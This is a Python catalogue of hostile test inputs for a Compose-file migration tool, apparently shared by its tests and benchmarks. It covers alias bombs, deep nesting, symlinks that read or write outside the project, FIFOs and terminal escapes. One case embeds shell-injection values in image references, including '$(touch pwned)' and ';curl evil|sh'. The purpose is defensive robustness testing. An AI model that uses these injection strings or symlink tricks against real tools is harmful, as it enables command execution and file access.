"""The catalogue of bad inputs, shared by tests/test_bad_inputs.py and bench/bad_inputs.py.

Each case writes a project into a directory and says what migrator must answer: exit 2 with a
message containing ``expect`` (and, where given, the location), or an analysis with a finding
that contains ``expect`` (any analysis at all when ``expect`` is empty).  ``absent`` is text that
must appear nowhere in the output (a file that must not be read, a raw escape sequence).
The cases are grouped by the class of hostile input they stand for (``CLASSES``).
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path


@dataclass(frozen=True)
class BadInput:
    name: str
    write: Callable[[Path], None]
    expect: str  # text the error (exit 2) or a finding must contain
    exit_code: int = 2
    location: str | None = None  # "compose.yaml:L:C" (or "compose.yaml:L") that the error must name
    args: tuple[str, ...] = field(default=())
    target: str = "compose.yaml"  # what is analyzed ("-" reads ``stdin``)
    stdin: bytes | None = None
    absent: str | None = None  # must appear in neither standard output nor standard error


def _text(body: str, name: str = "compose.yaml") -> Callable[[Path], None]:
    def write(root: Path) -> None:
        (root / name).write_text(body)

    return write


def _bytes(body: bytes) -> Callable[[Path], None]:
    def write(root: Path) -> None:
        (root / "compose.yaml").write_bytes(body)

    return write


LEAK = {
    "leak.env": "LEAK=leaked-value\n",
    "leak.yaml": "services:\n  a: {image: leaked-image}\n",
    "leak.Dockerfile": "FROM golang:1.23\n",  # read, it would make the service a Go app
    "leak.traefik.yml": "providers:\n  docker:\n    defaultRule: Host(`leaked-host.example.com`)\n",
}


def _files(files: dict[str, str], links: dict[str, str] | None = None) -> Callable[[Path], None]:
    """Files, and symbolic links to files outside the project (``LEAK``) or to absolute paths."""

    def write(root: Path) -> None:
        for name, body in files.items():
            path = root / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(body)
        for name, target in (links or {}).items():
            path = root / name
            path.parent.mkdir(parents=True, exist_ok=True)
            if target in LEAK:
                (root / target).write_text(LEAK[target])
                target = str(root / target)
            os.symlink(target, path)

    return write


def _bomb(root: Path) -> None:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 12):
        lines.append(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]")
    lines.append("services:\n  x:\n    image: *a11")
    (root / "compose.yaml").write_text("\n".join(lines) + "\n")


def _huge(root: Path) -> None:
    chunk = "# " + "x" * 1022 + "\n"
    with (root / "compose.yaml").open("w") as handle:
        handle.write("services:\n  a: {image: a}\n")
        for _ in range(50 * 1024):
            handle.write(chunk)


def _fifo(root: Path) -> None:
    os.mkfifo(root / "compose.yaml")


def _planted_out(root: Path) -> None:
    """An output folder shipped with links to a file and a folder outside it."""
    (root / "compose.yaml").write_text("services:\n  web: {image: 'node:22', labels: {traefik.enable: 'true'}}\n")
    (root / "outside").mkdir()
    (root / "outside" / "victim").write_text("unchanged\n")
    (root / "plan").mkdir()
    os.symlink("../outside/victim", root / "plan" / "report.json")
    os.symlink("../outside", root / "plan" / "default-web")


def _directory(root: Path) -> None:
    (root / "compose.yaml").mkdir()


def _fifo_free_symlink_loop(root: Path) -> None:
    os.symlink(root / "compose.yaml", root / "compose.yaml.tmp")
    os.rename(root / "compose.yaml.tmp", root / "compose.yaml")


CASES: list[BadInput] = [
    BadInput("not yaml", _text("services:\n  web:\n    image: [nginx\n"), "invalid YAML", location="compose.yaml:4:1"),
    BadInput("tabs", _text("services:\n\tweb: {}\n"), "invalid YAML", location="compose.yaml:2:1"),
    BadInput("binary junk", _bytes(bytes(range(256)) * 8), "binary data"),
    BadInput("empty file", _text(""), "has no 'services'"),
    BadInput("only a comment", _text("# nothing\n"), "has no 'services'"),
    BadInput("top-level list", _text("- web\n- db\n"), "top level must be a mapping"),
    BadInput("top-level scalar", _text("hello\n"), "top level must be a mapping"),
    BadInput(
        "services as a list",
        _text("services:\n  - web\n  - db\n"),
        "'services' must be a mapping",
        location="compose.yaml:1:1",
    ),
    BadInput(
        "service as a string",
        _text("services:\n  web: nginx\n"),
        "service 'web' must be a mapping",
        location="compose.yaml:2:3",
    ),
    BadInput(
        "ports as a number", _text("services:\n  web: {image: nginx, ports: 80}\n"), "services.web.ports", exit_code=0
    ),
    BadInput(
        "environment as a number",
        _text("services:\n  web: {image: nginx, environment: 5}\n"),
        "environment",
        exit_code=0,
    ),
    BadInput("image as a list", _text("services:\n  web: {image: [a, b]}\n"), "services.web.image", exit_code=0),
    BadInput(
        "volumes mapping of numbers",
        _text("services:\n  web: {image: a}\nvolumes:\n  data: 5\n"),
        "volumes.data",
        exit_code=0,
    ),
    BadInput(
        "port out of range", _text("services:\n  web: {image: a, ports: ['99999:80']}\n"), "invalid port", exit_code=0
    ),
    BadInput("depends_on a number", _text("services:\n  web: {image: a, depends_on: 3}\n"), "depends_on", exit_code=0),
    BadInput("alias bomb", _bomb, "too many aliases"),
    # Refused on line 1 whichever of migrator and libyaml (0.2.6 caps nesting itself) stops first;
    # the wording and column are theirs, so only the exit code and the line are held.
    BadInput(
        "20,000-deep nesting",
        _text("services: " + "[" * 20000 + "]" * 20000 + "\n"),
        "",
        location="compose.yaml:1",
    ),
    BadInput(
        "deep block nesting",
        _text("services:\n" + "".join(" " * (i + 1) + f"k{i}:\n" for i in range(200)) + " " * 201 + "v: 1\n"),
        "nests deeper",
    ),
    BadInput("50 MB file", _huge, "over the limit"),
    BadInput(
        "extends cycle",
        _text("services:\n  a: {image: a, extends: b}\n  b: {image: b, extends: a}\n"),
        "extends cycle: a -> b -> a",
        location="compose.yaml:2:17",
    ),
    BadInput(
        "extends across files cycle",
        _files(
            {
                "compose.yaml": "services:\n  a: {image: a, extends: {file: other.yaml, service: b}}\n",
                "other.yaml": "services:\n  b: {image: b, extends: {file: compose.yaml, service: a}}\n",
            }
        ),
        "extends cycle",
    ),
    BadInput(
        "extends a missing service",
        _text("services:\n  a: {image: a, extends: nope}\n"),
        "extends 'nope', which is not defined",
    ),
    BadInput(
        "include cycle",
        _files(
            {
                "compose.yaml": "include: [other.yaml]\nservices:\n  a: {image: a}\n",
                "other.yaml": "include: [compose.yaml]\nservices:\n  b: {image: b}\n",
            }
        ),
        "include cycle",
    ),
    BadInput("missing file", lambda root: None, "Compose file not found"),
    BadInput("a directory instead of a file", _directory, "directory without a Compose file"),
    BadInput("symlink loop", _fifo_free_symlink_loop, "compose.yaml"),
    BadInput(
        "non-UTF-8 bytes", _bytes(b"services:\n  web:\n    image: caf\xe9\n"), "not UTF-8", location="compose.yaml:3:15"
    ),
    BadInput(
        "duplicate keys",
        _text("services:\n  web: {image: a}\n  web: {image: b}\n"),
        "duplicate key 'web'",
        location="compose.yaml:3:3",
    ),
    BadInput(
        "duplicate keys deep",
        _text("services:\n  web:\n    image: a\n    image: b\n"),
        "duplicate key 'image'",
        location="compose.yaml:4:5",
    ),
    BadInput("unknown tag", _text("services:\n  web: !!python/object {}\n"), "YAML", location="compose.yaml:2:8"),
    BadInput(
        "malformed traefik rule",
        _text("services:\n  web:\n    image: nginx\n    labels: {traefik.http.routers.r.rule: 'Host(`a.com`'}\n"),
        "invalid rule",
        exit_code=0,
    ),
    BadInput(
        "malformed v1 rule",
        _text("services:\n  web:\n    image: nginx\n    labels: ['traefik.frontend.rule=Hots:a.com']\n"),
        "Traefik v1 rule",
        exit_code=0,
    ),
    BadInput(
        "malformed caddy label",
        _text(
            "services:\n  web:\n    image: nginx\n    labels: {caddy: a.example.com, caddy.reverse_proxy: '{{upstreams'}\n"
        ),
        "unclosed",
        exit_code=0,
    ),
    BadInput(
        "malformed multiports",
        _text("services:\n  web:\n    image: nginx\n    environment: {VIRTUAL_HOST_MULTIPORTS: '{a: [b'}\n"),
        "VIRTUAL_HOST_MULTIPORTS",
        exit_code=0,
    ),
    BadInput(
        "malformed cron",
        _text(
            "services:\n  c:\n    image: mcuadros/ofelia\n    labels: {ofelia.job-run.x.schedule: 'every tuesday'}\n"
        ),
        "cannot read the schedule",
        exit_code=0,
    ),
    BadInput(
        "malformed interpolation",
        _text("services:\n  web:\n    image: nginx\n    environment:\n      A: '${oops'\n"),
        "invalid interpolation",
        location="compose.yaml:5:7",
    ),
    BadInput(
        "bad interpolation name",
        _text("services:\n  web:\n    image: '${1abc}'\n"),
        "invalid interpolation",
        location="compose.yaml:3:5",
    ),
    BadInput(
        "bad env file line",
        _files(
            {"compose.yaml": "services:\n  web: {image: a, env_file: app.env}\n", "app.env": "GOOD=1\nBAD LINE HERE\n"}
        ),
        "app.env:2:1",
    ),
    BadInput(
        "unterminated env quote",
        _files({"compose.yaml": "services:\n  web: {image: a, env_file: app.env}\n", "app.env": 'A="open\n'}),
        "never closed",
    ),
    BadInput(
        "malformed rules dir",
        _files({"compose.yaml": "services:\n  a: {image: a}\n", "rules/x.yaml": "rules:\n  - id: Bad Id\n"}),
        "invalid rule file",
        args=("--rules", "rules"),
    ),
    BadInput(
        "rules file that is not YAML",
        _files({"compose.yaml": "services:\n  a: {image: a}\n", "rules/x.yaml": "rules: [\n"}),
        "invalid YAML",
        args=("--rules", "rules"),
    ),
    BadInput(
        "rule with a broken regular expression",
        _files(
            {
                "compose.yaml": "services:\n  a: {image: a}\n",
                "rules/x.yaml": (
                    "rules:\n  - id: X-BAD\n    title: t\n    rationale: r\n    docs: https://example.com\n"
                    "    severity: warning\n    message: m\n    match:\n      any:\n        - command: ['([open']\n"
                ),
            }
        ),
        "x.yaml:10:21: invalid rule file: rules.0.match.any.0.command.0 is not a regular expression",
        args=("--rules", "rules"),
    ),
    BadInput(
        "env file outside the project",
        _files(
            {"project/compose.yaml": "services:\n  a: {image: a, env_file: ../secret.env}\n", "secret.env": "A=1\n"}
        ),
        "outside the project directory",
        args=("--project-directory", "project"),
        target="project/compose.yaml",
    ),
    # --- hostile input, round two: reads outside the project, writes through links ---------------
    BadInput(
        "implicit .env linked outside",
        _files({"project/compose.yaml": "services:\n  a: {image: '${LEAK:-a}'}\n"}, links={"project/.env": "leak.env"}),
        "lies outside the project directory",
        exit_code=0,
        target="project/compose.yaml",
        absent="leaked-value",
    ),
    BadInput(
        "implicit .env linked outside, strict",
        _files({"project/compose.yaml": "services:\n  a: {image: a}\n"}, links={"project/.env": "leak.env"}),
        "lies outside the project directory",
        target="project/compose.yaml",
        args=("--strict",),
        absent="leaked-value",
    ),
    BadInput(
        "override file linked outside",
        _files(
            {"project/compose.yaml": "services:\n  a: {image: a}\n"},
            links={"project/compose.override.yaml": "leak.yaml"},
        ),
        "compose.override.yaml' lies outside the project directory",
        exit_code=0,
        target="project",
        absent="leaked-image",
    ),
    BadInput(
        "compose file linked to /dev/zero",
        _files({}, links={"compose.yaml": "/dev/zero"}),
        "lies outside the project directory",
    ),
    BadInput("compose file that is a FIFO", _fifo, "not a regular file"),
    BadInput(
        "standard input over the limit",
        _files({}),
        "standard input is over the limit of 100000 bytes",
        target="-",
        stdin=b"services:\n  a: {image: a}\n" + b"# padding\n" * 20000,
        args=("--max-file-size", "100000"),
    ),
    BadInput(
        "read budget across extends",
        _files(
            {
                "compose.yaml": "services:\n"
                + "".join(f"  s{i}: {{extends: {{file: base.yaml, service: b}}}}\n" for i in range(12)),
                "base.yaml": "services:\n  b: {image: b}\n" + "# padding\n" * 9000,
            }
        ),
        "the read budget",
        args=("--max-file-size", "100000"),
    ),
    BadInput(
        "Dockerfile linked outside",
        _files(
            {"project/compose.yaml": "services:\n  a: {build: app}\n", "project/app/README": "app\n"},
            links={"project/app/Dockerfile": "leak.Dockerfile"},
        ),
        "",
        exit_code=0,
        target="project/compose.yaml",
        absent='"runtime": "go"',
    ),
    BadInput(
        "Traefik configuration linked outside",
        _files(
            {
                "project/compose.yaml": "services:\n  proxy:\n    image: traefik:v3\n"
                "    volumes: ['./traefik.yml:/etc/traefik/traefik.yml:ro']\n"
                "  web:\n    image: nginx\n    labels: {traefik.enable: 'true'}\n"
            },
            links={"project/traefik.yml": "leak.traefik.yml"},
        ),
        "",
        exit_code=0,
        target="project/compose.yaml",
        absent="leaked-host",
    ),
    BadInput(
        "out folder with planted links",
        _planted_out,
        "refusing to write through the symbolic link plan/report.json",
        args=("--out", "plan"),
    ),
    # --- budgets ---------------------------------------------------------------------------------
    BadInput(
        "Traefik v1 alternatives bomb",
        _text(
            "services:\n  web:\n    image: nginx\n    labels:\n      - traefik.frontend.rule="
            + ";".join("Host:" + ",".join(f"h{i}{j}.example.com" for j in range(6)) for i in range(8))
            + "\n"
        ),
        "more than 64 alternatives (the alternatives budget)",
        exit_code=0,
    ),
    BadInput(
        "Traefik v2 alternatives bomb",
        _text(
            "services:\n  web:\n    image: nginx\n    labels:\n      traefik.http.routers.r.rule: '"
            + " && ".join("Host(" + ",".join(f"`h{i}{j}.example.com`" for j in range(90)) + ")" for i in range(4))
            + "'\n      traefik.http.routers.r.rulesyntax: v2\n"
        ),
        "more than 64 alternatives (the alternatives budget)",
        exit_code=0,
    ),
    BadInput(
        "port range 1-65535",
        _text("services:\n  web:\n    image: nginx\n    ports: ['1-65535:1-65535', '1-65535/udp']\n"),
        "the ports expand to more than 1024 entries (the port budget)",
        exit_code=0,
    ),
    BadInput(
        "scalar aliases of a 100 KB string",
        _text(
            "x-big: &big '"
            + "x" * 100_000
            + "'\nservices:\n  web:\n    image: nginx\n    command: ["
            + ", ".join(["*big"] * 200)
            + "]\n"
        ),
        "(the alias budget)",
    ),
    BadInput(
        "100 KB environment value",
        _text(
            "services:\n  web:\n    image: nginx\n    environment:\n      A: "
            + "a" * 100_000
            + "\n      B: '"
            + "a." * 50_000
            + "'\n      C: 'redis://"
            + "a-" * 50_000
            + "'\n"
        ),
        "",
        exit_code=0,
    ),
    BadInput(
        "100 KB numbers to cast",
        _text(
            "services:\n  web:\n    image: nginx\n"
            f"    cpus: '${{C:-{'1' * 100_000}x}}'\n"
            f"    healthcheck: {{test: 'true', retries: '${{R:-{'2' * 100_000}}}'}}\n"
        ),
        "services.web.healthcheck.retries must be an integer",
        exit_code=0,
    ),
    BadInput(
        "go.mod of blank lines",
        _files({"compose.yaml": "services:\n  a: {build: app}\n", "app/go.mod": "\n \n" * 200_000}),
        "",
        exit_code=0,
    ),
    BadInput(
        "Dockerfile of blank lines",
        _files({"compose.yaml": "services:\n  a: {build: app}\n", "app/Dockerfile": "\n\t\n" * 200_000}),
        "",
        exit_code=0,
    ),
    BadInput(
        "mem_limit padded with spaces",
        _text("services:\n  web:\n    image: nginx\n    mem_limit: '1" + " " * 100_000 + "x'\n"),
        "invalid memory limit",
        exit_code=0,
    ),
    BadInput(
        "ratelimit period padded with spaces",
        _text(
            "services:\n  web:\n    image: nginx\n    labels:\n"
            "      traefik.http.routers.r.rule: Host(`a.example.com`)\n"
            "      traefik.http.routers.r.middlewares: rl\n"
            "      traefik.http.middlewares.rl.ratelimit.period: '1" + " " * 100_000 + "x'\n"
        ),
        "ratelimit.period",
        exit_code=0,
    ),
    BadInput(
        "40,000-line .env",
        _files(
            {
                "compose.yaml": "services:\n  web: {image: 'nginx:${K39999}'}\n",
                ".env": "".join(f"K{i}=v{i} # note\n" for i in range(40_000)),
            }
        ),
        "",
        exit_code=0,
    ),
    BadInput(
        "unclosed quote in a long env file",
        _files(
            {
                "compose.yaml": "services:\n  web: {image: a, env_file: app.env}\n",
                "app.env": 'A="open\n' + "line\\\n" * 40_000,
            }
        ),
        "never closed",
    ),
    BadInput(
        "nested defaults around 100 KB",
        _text(
            "services:\n  web:\n    image: nginx\n    environment:\n      A: '"
            + "".join(f"${{V{i}:-" for i in range(64))
            + "x" * 100_000
            + "}" * 64
            + "'\n"
        ),
        "",
        exit_code=0,
    ),
    BadInput(
        "defaults nested 5,000 deep",
        _text(
            "services:\n  web:\n    image: nginx\n    environment:\n      A: '"
            + "${V:-" * 5000
            + "x"
            + "}" * 5000
            + "'\n"
        ),
        "nests deeper than 64 levels",
        location="compose.yaml:5:7",
    ),
    BadInput(
        "Traefik rule nested 5,000 deep",
        _text(
            "services:\n  web:\n    image: nginx\n    labels:\n      traefik.http.routers.deep.rule: '"
            + "(" * 5000
            + "Host(`a.example.com`)"
            + ")" * 5000
            + "'\n      traefik.http.routers.ok.rule: Host(`b.example.com`)\n"
        ),
        "nests deeper than 32 levels",
        exit_code=0,
    ),
    BadInput(
        "Traefik rule of 5,000 negations",
        _text(
            "services:\n  web:\n    image: nginx\n    labels:\n      traefik.http.routers.deep.rule: '"
            + "!" * 5000
            + "Host(`a.example.com`)'\n"
        ),
        "nests deeper than 32 levels",
        exit_code=0,
    ),
    BadInput(
        "Traefik rule of 3,000 matchers",
        _text(
            "services:\n  web:\n    image: nginx\n    labels:\n      traefik.http.routers.long.rule: '"
            + " && ".join(["Host(`a.example.com`)"] * 3000)
            + "'\n"
        ),
        "more than 256 matchers",
        exit_code=0,
    ),
    BadInput(
        "VIRTUAL_HOST_MULTIPORTS nested 3,000 deep",
        _text(
            "services:\n  web:\n    image: nginx\n    environment:\n      VIRTUAL_HOST_MULTIPORTS: '"
            + "{a: " * 3000
            + "1"
            + "}" * 3000
            + "'\n"
        ),
        "VIRTUAL_HOST_MULTIPORTS is not valid YAML or JSON (the YAML document nests deeper than 64 levels)",
        exit_code=0,
    ),
    BadInput(
        "depends_on chain of 1,000 services",
        _text(
            "services:\n"
            + "".join(f"  s{i}: {{image: a, depends_on: [s{i + 1}]}}\n" for i in range(1000))
            + "  s1000: {image: a, depends_on: [s0]}\n"
        ),
        "dependency cycle detected: s0 -> s1 -> s2",
        exit_code=0,
    ),
    BadInput(
        "extends chain of 500 services",
        _text(
            "services:\n"
            + "".join(f"  s{i}: {{image: a, extends: s{i + 1}}}\n" for i in range(500))
            + "  s500: {image: a}\n"
        ),
        "ends a chain of more than 64 extends",
    ),
    # --- numbers ---------------------------------------------------------------------------------
    BadInput(
        "mem_limit .inf",
        _text("services:\n  web: {image: nginx, mem_limit: .inf}\n"),
        "invalid memory limit",
        exit_code=0,
    ),
    BadInput(
        "memory limit .nan in deploy",
        _text("services:\n  web:\n    image: nginx\n    deploy: {resources: {limits: {memory: .nan, cpus: .inf}}}\n"),
        "invalid memory limit",
        exit_code=0,
    ),
    BadInput(
        "cpus .nan",
        _text("services:\n  web: {image: nginx, cpus: .nan}\n"),
        "invalid cpus",
        exit_code=0,
    ),
    BadInput(
        "number .inf, strict",
        _text("services:\n  web: {image: nginx, cpus: .inf}\n"),
        "invalid cpus '.inf': not a number of CPUs",
        location="compose.yaml:2:8",
        args=("--strict",),
    ),
    BadInput(
        "port target .inf",
        _text("services:\n  web:\n    image: nginx\n    ports: [{target: .inf}, {target: .nan, published: .inf}]\n"),
        "invalid port",
        exit_code=0,
    ),
    BadInput(
        "ratelimit average .inf",
        _text(
            "services:\n  web:\n    image: nginx\n    labels:\n"
            "      traefik.http.routers.r.rule: Host(`a.example.com`)\n"
            "      traefik.http.routers.r.middlewares: rl\n"
            "      traefik.http.middlewares.rl.ratelimit.average: .inf\n"
            "      traefik.http.middlewares.rl.ratelimit.period: .nan\n"
        ),
        "ratelimit.average",
        exit_code=0,
    ),
    BadInput(
        "superscript digits",
        _text(
            "services:\n  web:\n    image: nginx\n    expose: ['\u00b2']\n    ports: ['\u00b2\u00b3:80', '\u0663']\n"
            "    environment: {API_URL: 'http://api:\u00b2\u00b3/', VIRTUAL_HOST: a.example.com, VIRTUAL_PORT: '\u00b2'}\n"
            "    labels:\n"
            "      traefik.http.routers.r.rule: Host(`a.example.com`)\n"
            "      traefik.http.routers.r.priority: '\u00b9'\n"
            "      traefik.http.services.s.loadbalancer.server.port: '\u00b2'\n"
            "  api: {image: node, command: 'crond', labels: {ofelia.job-run.x.schedule: '0 0 * * \u00b2'}}\n"
        ),
        "invalid port",
        exit_code=0,
    ),
    BadInput(
        "5000-digit integers",
        _text(
            "services:\n  web:\n    image: nginx\n"
            f"    ports: ['{'9' * 5000}']\n    expose: ['{'8' * 5000}']\n    mem_limit: {'7' * 5000}\n"
            "    labels:\n"
            "      traefik.http.routers.r.rule: Host(`a.example.com`)\n"
            f"      traefik.http.routers.r.priority: '{'1' * 5000}'\n"
            f"      traefik.http.services.s.loadbalancer.server.port: '{'2' * 5000}'\n"
            f"  cron: {{image: mcuadros/ofelia, labels: {{ofelia.job-run.x.schedule: '@every {'3' * 5000}m'}}}}\n"
        ),
        "invalid port",
        exit_code=0,
    ),
    BadInput(
        "cron step of */0",
        _text(
            "services:\n  c:\n    image: mcuadros/ofelia\n"
            "    labels: {ofelia.job-run.x.schedule: '0 0 * * */0', ofelia.job-run.y.schedule: '*/0 * * * *',\n"
            f"      ofelia.job-run.z.schedule: '{'9' * 5000} 0 * * *', ofelia.job-run.w.schedule: '*/{'7' * 5000} * * * *'}}\n"
            "    deploy: {replicas: '\u00b2'}\n"
        ),
        "invalid step",
        exit_code=0,
    ),
    BadInput(
        "service name as a replacement template",
        _text(
            "services:\n  proxy:\n    image: traefik:v3\n"
            "    command: ['--providers.docker.defaultRule=Host(`{{ .Name }}.example.com`)']\n"
            "  'a\\1\\g<0>':\n    image: nginx\n    labels: {traefik.enable: 'true'}\n"
        ),
        "",
        exit_code=0,
    ),
    # --- output ----------------------------------------------------------------------------------
    BadInput(
        "terminal escapes in an error",
        _text('services:\n  "\\e]0;owned\\a\\e[31mweb\\u2028x": nginx\n'),
        "must be a mapping",
        location="compose.yaml:2:3",
        absent="\x1b",
    ),
    BadInput(
        "usage file figures past the bill's arithmetic",
        _files(
            {
                "compose.yaml": "services:\n  cache: {image: 'redis:7'}\n  api: {build: ., depends_on: [cache]}\n",
                "Dockerfile": "FROM node:22\n",
                "usage.yaml": "workers:\n  requests_per_month: 1e308\n  cpu_ms_per_request: 5\n",
            }
        ),
        "workers.requests_per_month is not a figure a bill can use",
        location="usage.yaml:2:3",
        args=("--usage", "usage.yaml"),
    ),
    BadInput(
        "image reference with shell syntax",
        _text(
            "services:\n  a: {image: 'a.b$(touch pwned)/x/y:1'}\n"
            "  b: {image: 'ghcr.io/x/y:1@sha256:`id`'}\n  c: {image: 'ghcr.io/x/y:1;curl evil|sh'}\n"
        ),
        "is incomplete",
        exit_code=0,
        absent="docker pull --platform linux/amd64 ",  # no pasteable command carries the reference
    ),
]

# The classes of hostile input (issue 15) and the cases that stand for each.
CLASSES: dict[str, tuple[str, ...]] = {
    "writes through symbolic links": ("out folder with planted links",),
    "reads outside the project": (
        "implicit .env linked outside",
        "implicit .env linked outside, strict",
        "override file linked outside",
        "compose file linked to /dev/zero",
        "Dockerfile linked outside",
        "Traefik configuration linked outside",
        "env file outside the project",
    ),
    "only regular files, sizes counted while reading": (
        "compose file that is a FIFO",
        "standard input over the limit",
        "read budget across extends",
        "50 MB file",
    ),
    "expansion budgets": (
        "Traefik v1 alternatives bomb",
        "Traefik v2 alternatives bomb",
        "port range 1-65535",
        "scalar aliases of a 100 KB string",
        "alias bomb",
    ),
    "linear regular expressions": (
        "100 KB environment value",
        "go.mod of blank lines",
        "Dockerfile of blank lines",
        "mem_limit padded with spaces",
        "ratelimit period padded with spaces",
        "100 KB numbers to cast",
    ),
    "linear .env and interpolation": (
        "40,000-line .env",
        "unclosed quote in a long env file",
        "nested defaults around 100 KB",
        "defaults nested 5,000 deep",
    ),
    "numbers": (
        "mem_limit .inf",
        "usage file figures past the bill's arithmetic",
        "memory limit .nan in deploy",
        "cpus .nan",
        "number .inf, strict",
        "port target .inf",
        "ratelimit average .inf",
        "superscript digits",
        "5000-digit integers",
        "cron step of */0",
        "service name as a replacement template",
    ),
    "escapes and deep rules": (
        "terminal escapes in an error",
        "image reference with shell syntax",
        "Traefik rule nested 5,000 deep",
        "Traefik rule of 5,000 negations",
        "Traefik rule of 3,000 matchers",
        "VIRTUAL_HOST_MULTIPORTS nested 3,000 deep",
        "depends_on chain of 1,000 services",
        "extends chain of 500 services",
    ),
}
